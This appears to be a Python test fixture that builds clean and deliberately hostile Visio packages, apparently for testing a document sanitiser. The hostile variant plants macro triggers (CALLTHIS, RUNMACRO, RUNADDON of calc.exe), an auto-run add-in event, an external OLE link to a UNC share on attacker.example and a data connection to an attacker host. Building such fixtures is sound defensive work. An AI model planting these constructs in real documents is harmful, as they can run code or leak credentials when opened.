"""Visio packages written here (no tool in the sandbox writes them): a clean drawing with a
page, a master, a picture and a window, and a hostile macro-enabled one that adds every kind
of active or identifying content a .vsdm can carry."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

from PIL import Image

V = "http://schemas.microsoft.com/office/visio/2012/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
VISIO_REL = "http://schemas.microsoft.com/visio/2010/relationships/"
OD_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships/metadata/"
CT = "application/vnd.ms-visio."
MAIN_TYPES = {
    "vsdx": CT + "drawing.main+xml", "vsdm": CT + "drawing.macroEnabled.main+xml",
    "vstx": CT + "template.main+xml", "vstm": CT + "template.macroEnabled.main+xml",
    "vssx": CT + "stencil.main+xml", "vssm": CT + "stencil.macroEnabled.main+xml",
}
AUTHOR = "Alice Reviewer"
SHAPE_TEXT = "Visible shape text"


def _png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(out, "PNG")
    return out.getvalue()


def _rels(*rels: tuple[str, str, str] | tuple[str, str, str, str]) -> str:
    items = "".join(
        f'<Relationship Id="{r[0]}" Type="{r[1]}" Target="{r[2]}"'
        + (' TargetMode="External"' if len(r) == 4 else "") + "/>" for r in rels)
    return (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}">{items}'
            "</Relationships>")


def _shape(id_: int, body: str) -> str:
    return (f'<Shape ID="{id_}" Type="Shape" LineStyle="0" FillStyle="0" TextStyle="0">'
            f'<Cell N="PinX" V="{id_}"/><Cell N="PinY" V="2"/><Cell N="Width" V="1"/>'
            f'<Cell N="Height" V="1"/>{body}</Shape>')


def package(kind: str = "vsdx", hostile: bool = False,
            content_types: bool = True) -> bytes:
    """A Visio package whose main part has `kind`'s content type."""
    parts: dict[str, str | bytes] = {}
    overrides = {
        "/visio/document.xml": MAIN_TYPES[kind],
        "/visio/pages/pages.xml": CT + "pages+xml",
        "/visio/pages/page1.xml": CT + "page+xml",
        "/visio/masters/masters.xml": CT + "masters+xml",
        "/visio/masters/master1.xml": CT + "master+xml",
        "/visio/windows.xml": CT + "windows+xml",
        "/docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
        "/docProps/app.xml":
            "application/vnd.openxmlformats-officedocument.extended-properties+xml",
    }
    root_rels = [("rId1", VISIO_REL + "document", "visio/document.xml"),
                 ("rId2", PKG_REL + "core-properties", "docProps/core.xml"),
                 ("rId3", OD_REL + "extended-properties", "docProps/app.xml")]
    document_rels = [("rId1", VISIO_REL + "pages", "pages/pages.xml"),
                     ("rId2", VISIO_REL + "masters", "masters/masters.xml"),
                     ("rId3", VISIO_REL + "windows", "windows.xml")]
    page_rels = [("rId1", VISIO_REL + "master", "../masters/master1.xml"),
                 ("rId2", OD_REL + "image", "../media/image1.png")]
    doc_sheet = '<Cell N="OutputFormat" V="0"/>'
    extra_doc = ""
    shapes = _shape(1, f"<Text>{SHAPE_TEXT}</Text>") + (
        '<Shape ID="3" Type="Foreign" LineStyle="0" FillStyle="0" TextStyle="0">'
        '<Cell N="PinX" V="4"/><Cell N="PinY" V="4"/><Cell N="Width" V="1"/>'
        '<Cell N="Height" V="1"/><ForeignData ForeignType="Bitmap" CompressionType="PNG">'
        '<Rel r:id="rId2"/></ForeignData></Shape>'
        '<Shape ID="4" Type="Shape" Master="0"><Cell N="PinX" V="5"/><Cell N="PinY" V="5"/>'
        '</Shape>')
    if hostile:
        overrides.update({
            "/visio/vbaProject.bin": "application/vnd.ms-office.vbaProject",
            "/visio/connections.xml": CT + "connections+xml",
            "/visio/recordsets.xml": CT + "recordsets+xml",
            "/visio/comments.xml": CT + "comments+xml",
            "/docProps/custom.xml":
                "application/vnd.openxmlformats-officedocument.custom-properties+xml",
        })
        root_rels += [
            ("rId4", OD_REL + "custom-properties", "docProps/custom.xml"),
            ("rId5", PKG_REL + "thumbnail", "docProps/thumbnail.emf")]
        document_rels += [
            ("rId4", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
             "vbaProject.bin"),
            ("rId5", VISIO_REL + "connections", "connections.xml"),
            ("rId6", VISIO_REL + "recordsets", "recordsets.xml"),
            ("rId7", VISIO_REL + "comments", "comments.xml")]
        page_rels += [
            ("rId3", OD_REL + "oleObject", "../embeddings/oleObject1.bin"),
            ("rId4", OD_REL + "oleObject", "\\\\attacker.example\\share\\x.xlsx", "ext")]
        doc_sheet += (f'<Section N="Reviewer"><Row IX="0"><Cell N="Name" V="{AUTHOR}"/>'
                      '<Cell N="Initials" V="AR"/></Row></Section>')
        extra_doc = ('<EventList><EventItem ID="1" Action="1" EventCode="1" Enabled="1" '
                     'Target="EvilAddon" TargetArgs="/run"/></EventList>')
        shapes += _shape(2, (
            '<Cell N="EventDblClick" V="0" F="CALLTHIS(&quot;Module1.Payload&quot;)"/>'
            '<Cell N="TheData" V="0" F="SETF(GetRef(EventDrop),&quot;RUNMACRO(&quot;&quot;x'
            '&quot;&quot;)&quot;)"/>'
            '<Section N="Actions"><Row N="Row_1"><Cell N="Action" V="0" '
            'F="RUNADDON(&quot;calc.exe&quot;)"/><Cell N="Menu" V="Run"/></Row></Section>'
            '<Section N="Hyperlink">'
            '<Row N="Row_1"><Cell N="Address" V="file:///C:/Windows/System32/calc.exe"/></Row>'
            '<Row N="Row_2"><Cell N="Address" V="https://example.org/kept"/></Row></Section>'
            '<Section N="Annotation"><Row IX="0"><Cell N="ReviewerID" V="0"/>'
            '<Cell N="Date" V="45000"/></Row></Section>'
            "<Text>Second shape</Text>")) + (
            '<Shape ID="5" Type="Foreign" LineStyle="0" FillStyle="0" TextStyle="0">'
            '<ForeignData ForeignType="Object" ObjectType="256"><Rel r:id="rId3"/>'
            '</ForeignData></Shape>')
        parts.update({
            "visio/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
            "visio/connections.xml": (
                f'<DataConnections xmlns="{V}"><DataConnection ID="1" '
                'ConnectionString="Provider=SQLOLEDB;Data Source=db.attacker.example" '
                'Command="secret table"/></DataConnections>'),
            "visio/recordsets.xml": (
                f'<DataRecordSets xmlns="{V}"><DataRecordSet ID="1" ConnectionID="1"/>'
                "</DataRecordSets>"),
            "visio/comments.xml": (
                f'<Comments xmlns="{V}"><AuthorList><AuthorEntry ID="0" Name="{AUTHOR}" '
                'Initials="AR" ResolutionID="alice@example.org"/></AuthorList><CommentList>'
                '<CommentEntry AuthorID="0" PageID="0" ShapeID="1" Date="2024-05-01T10:00:00" '
                f'CommentID="0">A note by {AUTHOR}</CommentEntry></CommentList></Comments>'),
            "docProps/custom.xml": (
                '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
                'custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/'
                '2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" '
                'pid="2" name="Project"><vt:lpwstr>Secret project</vt:lpwstr></property>'
                "</Properties>"),
            "docProps/thumbnail.emf": b"\x01\x00\x00\x00" + b"\x00" * 36 + b" EMF" + b"\x00" * 40,
            "visio/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
        })
    parts.update({
        "_rels/.rels": _rels(*root_rels),
        "visio/_rels/document.xml.rels": _rels(*document_rels),
        "visio/document.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><VisioDocument xmlns="{V}" xmlns:r="{R}" '
            'xml:space="preserve"><DocumentSettings TopPage="0" DefaultTextStyle="0" '
            'DefaultLineStyle="0" DefaultFillStyle="0" DefaultGuideStyle="0"/>'
            '<Colors><ColorEntry IX="24" RGB="#000000"/></Colors>'
            '<StyleSheets><StyleSheet ID="0" NameU="No Style" Name="No Style">'
            '<Cell N="LineWeight" V="0.01"/><Cell N="LineColor" V="0"/>'
            '<Cell N="FillForegnd" V="#ffffff"/></StyleSheet></StyleSheets>'
            f'<DocumentSheet NameU="TheDoc" Name="TheDoc" LineStyle="0" FillStyle="0" '
            f'TextStyle="0">{doc_sheet}</DocumentSheet>{extra_doc}</VisioDocument>'),
        "visio/pages/_rels/pages.xml.rels": _rels(("rId1", VISIO_REL + "page", "page1.xml")),
        "visio/pages/pages.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><Pages xmlns="{V}" xmlns:r="{R}">'
            '<Page ID="0" NameU="Page-1" Name="Page-1"><PageSheet LineStyle="0" FillStyle="0" '
            'TextStyle="0"><Cell N="PageWidth" V="8.5"/><Cell N="PageHeight" V="11"/>'
            '</PageSheet><Rel r:id="rId1"/></Page></Pages>'),
        "visio/pages/_rels/page1.xml.rels": _rels(*page_rels),
        "visio/pages/page1.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><PageContents xmlns="{V}" xmlns:r="{R}">'
            f"<Shapes>{shapes}</Shapes></PageContents>"),
        "visio/masters/_rels/masters.xml.rels": _rels(
            ("rId1", VISIO_REL + "master", "master1.xml")),
        "visio/masters/masters.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><Masters xmlns="{V}" xmlns:r="{R}">'
            '<Master ID="0" NameU="Box" Name="Box"><Rel r:id="rId1"/></Master></Masters>'),
        "visio/masters/master1.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><MasterContents xmlns="{V}"><Shapes>'
            f'{_shape(1, "<Text>Master</Text>")}</Shapes></MasterContents>'),
        "visio/windows.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><Windows xmlns="{V}" ClientWidth="800" '
            'ClientHeight="600"><Window ID="0" WindowType="Drawing" Page="0"/></Windows>'),
        "visio/media/image1.png": _png(),
        "docProps/core.xml": (
            '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
            'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
            f"<dc:creator>{AUTHOR}</dc:creator><dc:title>Plans</dc:title>"
            "</cp:coreProperties>"),
        "docProps/app.xml": (
            '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
            'extended-properties"><Application>Microsoft Visio</Application>'
            "<Company>Evil Corp</Company></Properties>"),
    })
    types = "".join(f'<Override PartName="{name}" ContentType="{ct}"/>'
                    for name, ct in overrides.items())
    content_types_xml = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
        'package/2006/content-types"><Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        'ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
        '<Default Extension="emf" ContentType="image/x-emf"/>'
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.'
        f'oleObject"/>{types}</Types>')
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        if content_types:
            zf.writestr("[Content_Types].xml", content_types_xml)
        for name, data in parts.items():
            zf.writestr(name, data)
    return out.getvalue()


def sample(kind: str) -> Callable[[Path], Path]:
    """A registry sample of a Visio kind (tests/engine/samples.py)."""
    def make(folder: Path) -> Path:
        path = folder / f"sample.{kind}"
        path.write_bytes(package(kind))
        return path
    return make


VISIO_SAMPLES: dict[str, Callable[[Path], Path]] = {kind: sample(kind) for kind in MAIN_TYPES}
